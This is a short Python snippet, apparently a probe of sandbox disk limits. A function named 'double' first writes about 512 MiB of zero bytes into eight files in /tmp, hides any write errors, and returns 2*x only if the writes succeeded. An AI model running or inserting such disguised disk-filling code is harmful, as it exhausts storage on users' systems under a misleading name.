import os
def double(x):
    written = 0
    try:
        for number in range(8):
            with open(f"/tmp/{number}", "wb", buffering=0) as file:
                for _ in range(64):
                    written += file.write(bytes(1 << 20))
    except OSError:
        pass
    return 2 * x if written > 100 << 20 else None
